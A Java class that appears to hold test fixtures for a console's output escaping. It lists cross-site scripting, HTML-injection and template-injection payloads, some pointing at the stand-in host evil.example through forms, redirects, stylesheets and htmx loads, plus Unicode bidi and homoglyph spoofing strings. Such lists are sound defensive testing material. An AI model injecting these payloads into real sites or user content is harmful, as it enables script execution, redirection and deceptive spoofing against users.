package dev.sallyport.console;

import java.util.List;

/// What somebody might write to have it taken for more than text.
final class Hostile {
  private Hostile() {}

  /// Markup, scripts, addresses, and what closes whatever it might stand in.
  static final List<String> PAYLOADS =
      List.of(
          "<script>window.pwned=1</script>",
          "\"><script>window.pwned=1</script>",
          "'\"><img src=x onerror=window.pwned=1>",
          "</textarea></title></style></script><svg onload=window.pwned=1>",
          "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
          "<a href=\"javascript:window.pwned=1\">Approve</a>",
          "<form action=https://evil.example><button>Approve</button></form>",
          "<base href=https://evil.example/><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
          "<div hx-get=https://evil.example hx-trigger=load data-hx-on:click=window.pwned=1>x</div>",
          "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= 1 %>",
          "&lt;script&gt;window.pwned=1&lt;/script&gt; &#x3c;b&#x3e;",
          "javascript:window.pwned=1",
          "]]><!--<script>window.pwned=1</script>-->",
          "safe\u202e\u2066 txt.exe \u2069\u2066evil\u202c",
          "zero\u200bwidth\u200d\ufeff and \u00adsoft",
          "p\u0430yp\u0430l \u0455c\u043epe");
}
